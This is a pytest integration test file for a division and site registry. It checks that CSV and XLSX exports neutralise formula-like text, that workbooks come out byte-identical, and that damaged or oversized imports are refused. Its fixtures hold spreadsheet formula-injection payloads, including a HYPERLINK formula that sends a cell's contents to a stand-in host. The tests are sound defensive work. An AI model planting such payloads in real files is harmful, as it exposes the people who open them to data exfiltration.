"""Files in and out, hardened (both engines): text that looks like a formula stays text in every
CSV and XLSX the registry writes and comes back unchanged; the same content gives the same
workbook bytes; damaged and hostile files are refused with a stable code; large files are read
within limits, off the event loop, and answered with a small JSON report."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import math
import os
import subprocess
import sys
import time
import zipfile

import openpyxl
import pytest

from tests.integration.corpus.files import (
    DAMAGED_XLSX,
    base_plan_xlsx,
    damaged_directory_xlsx,
    deep_geojson,
    entity_xlsx,
    nan_xlsx,
    truncated_sheet_xlsx,
    unsupported_method_xlsx,
)
from tests.integration.test_import import (
    INSIDE_HECHENG,
    SITES_HEADER,
    VILLAGES_HEADER,
    csv_bytes,
    upload,
    village_codes,
)

GOLDEN = "431202102000"  # 黄金坳镇, 鹤城区
HECHENG = "431202000000"
AS_OF = "2015-06-30"
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
# Text a spreadsheet program runs as a formula, with a tab or CR before one, and quoted text
# that must survive the escape unchanged.
FORMULA_LIKE = [FORMULA, "+1+2", "-3+4", "@SUM(A1:A3)", "'=quoted already", "''+twice"]


def export(client, name, who=None, **params):
    return client.get(f"/api/export/{name}", params=params, headers=client.auth(who))


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(n).decode()
            for n in archive.namelist()
            if n.startswith("xl/worksheets/sheet")
        )


def assert_no_formulas(content: bytes) -> None:
    xml = sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml, "a live formula in the workbook"


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def text_xlsx(rows: list[list]) -> bytes:
    """A workbook whose text cells are text cells (openpyxl would make "=…" a formula)."""
    book = openpyxl.Workbook()
    sheet = book.active
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(r, c)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_of(rows: list[list]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue().encode()


def add_formula_sites(client) -> list[str]:
    """One site per formula-like sign name (address: the same text), in 鹤城区."""
    codes = village_codes(client, n=len(FORMULA_LIKE))
    rows = [["division_code", "lon", "lat", "status", "effective_date", "signage_name", "address"]]
    for n, (code, text) in enumerate(zip(codes, FORMULA_LIKE, strict=True)):
        lon = INSIDE_HECHENG[0] + n * 0.001
        rows.append([code, lon, INSIDE_HECHENG[1], "in_service", "2014-05-01", text, text])
    response = upload(client, "sites", text_xlsx(rows), format="xlsx")
    assert response.status_code == 200, response.text
    return codes


# --------------------------------------------------------------------------- 1. formulas


def test_formula_like_sign_names_are_text_in_the_public_exports(client):
    add_formula_sites(client)
    xlsx = export(client, "sites.xlsx")
    assert xlsx.status_code == 200
    assert_no_formulas(xlsx.content)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in sheet[1]]
    name_col = header.index("signage_name") + 1
    cells = {sheet.cell(r, name_col).value: sheet.cell(r, name_col) for r in range(2, 99)}
    for text in FORMULA_LIKE:
        assert cells[text].data_type == "s", text
    assert cells[FORMULA].quotePrefix and cells["+1+2"].quotePrefix
    as_csv = csv_rows(export(client, "sites.csv").content)
    column = as_csv[0].index("signage_name")
    names = {row[column] for row in as_csv[1:]}
    # The OWASP prefix: one more quote before whatever Excel would run (or unescape).
    assert {"'" + FORMULA, "'+1+2", "'-3+4", "'@SUM(A1:A3)", "''=quoted already"} <= names
    assert "'''+twice" in names


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imported_again_gives_back_the_exact_text(client, fmt):
    add_formula_sites(client)
    exported = export(client, f"sites.{fmt}", "municipal", county=HECHENG)
    before = client.snapshot()
    response = upload(client, "sites", exported.content, format=fmt, dry_run="true")
    assert response.status_code == 200, response.text
    report = response.json()
    # Nothing differs: every sign name and address came back exactly as stored.
    assert report["unchanged"] == report["rows"] and report["updated"] == 0
    assert client.snapshot() == before


def test_formula_like_division_names_are_text_in_divisions_exports(client):
    name = '=HYPERLINK("http://example.invalid","点")村'
    response = upload(client, "divisions", csv_of([["code", "name"], ["431202102931", name]]))
    assert response.status_code == 200, response.text
    xlsx = export(client, "divisions.xlsx", county=HECHENG)
    assert_no_formulas(xlsx.content)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert name in [c.value for row in sheet for c in row]
    rows = csv_rows(export(client, "divisions.csv", county=HECHENG).content)
    assert next(r for r in rows if r[0] == "431202102931")[1] == "'" + name


def test_import_report_quotes_a_formula_header_and_a_control_character_as_text(client):
    before = client.snapshot()
    text = csv_of([["code", "name", FORMULA, "bad\x07col"], ["431202102932", "某村", 1, 2]])
    as_xlsx = upload(client, "divisions", text, report="xlsx")
    # A control character quoted from the file does not break the workbook (was a 500).
    assert as_xlsx.status_code == 422, as_xlsx.text
    assert_no_formulas(as_xlsx.content)
    rows = list(openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).active.values)
    assert (None, FORMULA, "error", "unknown_column") in [r[:4] for r in rows]
    as_csv = csv_rows(upload(client, "divisions", text, report="csv").content)
    assert ["", "'" + FORMULA, "error", "unknown_column"] in [r[:4] for r in as_csv]
    assert client.snapshot() == before


def test_coverage_report_writes_formula_like_names_as_text(client):
    name = '=HYPERLINK("http://example.invalid","x")区'
    renamed = upload(client, "divisions", csv_of([["code", "name"], [HECHENG, name]]))
    assert renamed.status_code == 200, renamed.text
    headers = client.auth("municipal")
    xlsx = client.get("/api/reports/coverage.xlsx", params={"as_of": AS_OF}, headers=headers)
    assert xlsx.status_code == 200
    assert_no_formulas(xlsx.content)
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    cells = [c for row in book["各县市区"].iter_rows() for c in row if c.value == name]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    as_csv = client.get("/api/reports/coverage.csv", params={"as_of": AS_OF}, headers=headers)
    assert "'" + name in [row[1] for row in csv_rows(as_csv.content)]


def test_plan_template_writes_formula_like_names_as_protected_text(client):
    code = village_codes(client, n=1)[0]
    name = "=1+2村"
    renamed = upload(
        client, "divisions", csv_bytes(f"code,name,parent_code\n{code},{name},{GOLDEN}\n")
    )
    assert renamed.status_code == 200, renamed.text
    content = client.get(
        "/api/plans/template.xlsx",
        params={"county": "431202", "campaign": "agency-points-2013"},
        headers=client.auth("planner_hecheng"),
    ).content
    assert_no_formulas(content)
    ws = openpyxl.load_workbook(io.BytesIO(content))["规划"]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == name)
    assert cell.data_type == "s" and cell.quotePrefix


# --------------------------------------------------------------------------- 2. determinism


def _core_times(content: bytes) -> tuple[str, set]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        core = archive.read("docProps/core.xml").decode()
        times = {i.date_time for i in archive.infolist()}
    return core, times


def test_every_workbook_is_the_same_bytes_for_the_same_content(client):
    municipal = client.auth("municipal")
    planner = client.auth("planner_hecheng")
    bad = csv_bytes(VILLAGES_HEADER + "4312021029,某村\n")

    def downloads() -> dict[str, bytes]:
        return {
            "coverage": client.get(
                "/api/reports/coverage.xlsx", params={"as_of": AS_OF}, headers=municipal
            ).content,
            "sites": export(client, "sites.xlsx").content,
            "divisions": export(client, "divisions.xlsx", county=HECHENG).content,
            "template": client.get(
                "/api/plans/template.xlsx",
                params={"county": "431202", "campaign": "agency-points-2013"},
                headers=planner,
            ).content,
            "report": upload(client, "divisions", bad, report="xlsx").content,
        }

    first = downloads()
    time.sleep(1.1)  # the zip's times have a resolution of two seconds, the properties one
    time.sleep(1.0)
    again = downloads()
    for name, content in first.items():
        assert content[:2] == b"PK", name
        assert again[name] == content, f"{name}.xlsx differs between two downloads"
    core, times = _core_times(first["coverage"])
    assert f'<dcterms:modified xsi:type="dcterms:W3CDTF">{AS_OF}T00:00:00Z' in core
    assert f'<dcterms:created xsi:type="dcterms:W3CDTF">{AS_OF}T00:00:00Z' in core
    assert times == {(2015, 6, 30, 0, 0, 0)}


# --------------------------------------------------------------------------- 3. damaged files

DAMAGED_IMPORTS = [
    ("truncated worksheet XML", truncated_sheet_xlsx, "xlsx", "malformed_xlsx"),
    ("NaN in a numeric cell", nan_xlsx, "xlsx", "malformed_xlsx"),
    ("undefined entity in a sheet", entity_xlsx, "xlsx", "malformed_xlsx"),
    ("damaged central directory entry", damaged_directory_xlsx, "xlsx", "malformed_xlsx"),
    ("member compressed by method 99", unsupported_method_xlsx, "xlsx", "malformed_xlsx"),
    ("property nested 100,000 deep", deep_geojson, "geojson", "too_deeply_nested"),
]


@pytest.mark.parametrize(
    ("name", "content", "fmt", "code"), DAMAGED_IMPORTS, ids=[d[0] for d in DAMAGED_IMPORTS]
)
def test_damaged_import_files_are_a_file_level_error(client, name, content, fmt, code):
    before = client.snapshot()
    for what in ("divisions", "sites"):
        response = upload(client, what, content(), format=fmt)
        assert response.status_code == 422, response.text[:300]
        body = response.json()
        assert body["code"] == "import_invalid"
        assert [(i["row"], i["code"]) for i in body["report"]["issues"]] == [(None, code)]
    assert client.snapshot() == before


@pytest.mark.parametrize(("name", "build"), DAMAGED_XLSX, ids=[d[0] for d in DAMAGED_XLSX])
def test_damaged_plan_workbooks_are_refused_as_not_xlsx(client, name, build):
    before = client.snapshot()
    response = client.post(
        "/api/plans/import",
        content=build(base_plan_xlsx()),
        headers={
            **client.auth("planner_hecheng"),
            "Content-Type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        },
    )
    assert (response.status_code, response.json()["code"]) == (422, "not_xlsx")
    assert client.snapshot() == before


@pytest.mark.parametrize("value", ["NaN", "nan", "inf", "-Infinity", "1e999"])
def test_non_finite_numbers_are_row_errors(client, value):
    code = village_codes(client, n=1)[0]
    before = client.snapshot()
    text = "division_code,lon,lat,hall_area_m2\n" + f"{code},{INSIDE_HECHENG[0]},27.55,{value}\n"
    report = upload(client, "sites", csv_bytes(text)).json()["report"]
    assert [(i["row"], i["column"], i["code"]) for i in report["issues"]] == [
        (2, "hall_area_m2", "not_a_number")
    ]
    assert client.snapshot() == before


def test_a_date_beyond_any_calendar_is_a_row_error(client):
    before = client.snapshot()
    text = "code,name,established_on\n431202102933,某村,99999999999999999999-01-01\n"
    report = upload(client, "divisions", csv_bytes(text)).json()["report"]
    assert [(i["row"], i["code"]) for i in report["issues"]] == [(2, "invalid_date")]
    assert client.snapshot() == before


def _registry(database_url, *args):
    env = {**os.environ, "REGISTRY_DATABASE_URL": database_url}
    return subprocess.run(
        [sys.executable, "-m", "registry.cli", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )


def test_cli_refuses_damaged_files_in_one_line_without_a_traceback(database_url, tmp_path):
    for name, content, suffix, code in [
        ("sheet.xlsx", truncated_sheet_xlsx, "xlsx", "malformed_xlsx"),
        ("directory.xlsx", damaged_directory_xlsx, "xlsx", "malformed_xlsx"),
        ("deep.geojson", deep_geojson, "geojson", "too_deeply_nested"),
    ]:
        path = tmp_path / name
        path.write_bytes(content())
        what = "divisions" if suffix == "geojson" else "sites"
        result = _registry(database_url, "import", what, str(path))
        assert result.returncode != 0, name
        assert "Traceback" not in result.stderr, result.stderr[-2000:]
        lines = [line for line in result.stdout.splitlines() if code in line]
        assert len(lines) == 1, result.stdout


# --------------------------------------------------------------------------- 4. large files


def test_a_large_report_answers_a_summary_and_the_first_errors(client):
    before = client.snapshot()
    rows = "".join(f"x{n},某村\n" for n in range(3000))  # 3,000 invalid codes
    response = upload(client, "divisions", csv_bytes(VILLAGES_HEADER + rows), dry_run="true")
    assert response.status_code == 422
    body = response.json()
    report = body["report"]
    assert report["errors"] == 3000 and report["issues_total"] == 3000
    assert report["issues_truncated"] is True
    assert len(report["issues"]) == 200 and len(body["errors"]) == 50
    assert [i["row"] for i in report["issues"]] == list(range(2, 202))
    assert len(response.content) < 100_000
    full = upload(client, "divisions", csv_bytes(VILLAGES_HEADER + rows), report="csv")
    assert len(csv_rows(full.content)) == 3001
    assert client.snapshot() == before


def test_errors_are_listed_before_warnings_when_a_report_is_cut(client):
    before = client.snapshot()
    blanks = "\n" * 300  # 300 blank rows: warnings, before the one error at the end
    text = VILLAGES_HEADER + "431202102934,某村\n" + blanks + "4312021029,某村\n"
    report = upload(client, "divisions", csv_bytes(text), dry_run="true").json()["report"]
    assert report["issues_total"] == 301 and len(report["issues"]) == 200
    assert report["issues"][-1]["code"] == "invalid_code"
    assert client.snapshot() == before


def _circle(vertices: int) -> dict:
    lon, lat = INSIDE_HECHENG
    ring = [
        [
            lon + 0.01 * math.cos(2 * math.pi * k / vertices),
            lat + 0.01 * math.sin(2 * math.pi * k / vertices),
        ]
        for k in range(vertices)
    ]
    return {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}


def test_a_boundary_over_the_vertex_limit_is_refused(client):
    before = client.snapshot()
    doc = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"code": "431202102935", "name": "大边界村"},
                "geometry": _circle(100_001),
            }
        ],
    }
    response = upload(client, "divisions", json.dumps(doc).encode(), format="geojson")
    assert response.status_code == 422, response.text[:300]
    issues = response.json()["report"]["issues"]
    assert [(i["row"], i["code"]) for i in issues] == [(None, "geometry_too_complex")]
    assert "feature 1" in issues[0]["message"]
    assert client.snapshot() == before


def test_a_file_over_the_row_limit_is_refused(client):
    before = client.snapshot()
    code = village_codes(client, n=1)[0]
    line = f"{code},{INSIDE_HECHENG[0]},{INSIDE_HECHENG[1]},wgs84,,,\n"
    response = upload(client, "sites", csv_bytes(SITES_HEADER + line * 100_001), dry_run="true")
    assert response.status_code == 422
    issues = response.json()["report"]["issues"]
    assert [(i["row"], i["code"]) for i in issues] == [(None, "too_many_rows")]
    assert client.snapshot() == before


def test_files_are_read_and_checked_off_the_event_loop(client, monkeypatch):
    """The file is read in a worker process (never by the server's own reader), its rows are
    checked in a worker thread (no event loop runs there)."""
    from registry.formats import readers
    from registry.transfer.imports import sites

    seen: list[str] = []

    def on_a_loop() -> bool:
        try:
            asyncio.get_running_loop()
        except RuntimeError:
            return False
        return True

    def watched(name, fn):
        def run(*args, **kwargs):
            seen.append(f"{name} on the loop" if on_a_loop() else f"{name} in a thread")
            return fn(*args, **kwargs)

        return run

    monkeypatch.setattr(readers, "read_table", watched("read", readers.read_table))
    monkeypatch.setattr(sites, "parse_sites", watched("parse", sites.parse_sites))
    code = village_codes(client, n=1)[0]
    text = SITES_HEADER + f"{code},{INSIDE_HECHENG[0]},{INSIDE_HECHENG[1]},wgs84,,,\n"
    response = upload(client, "sites", csv_bytes(text), dry_run="true")
    assert response.status_code == 200 and response.json()["rows"] == 1
    assert seen == ["parse in a thread"]
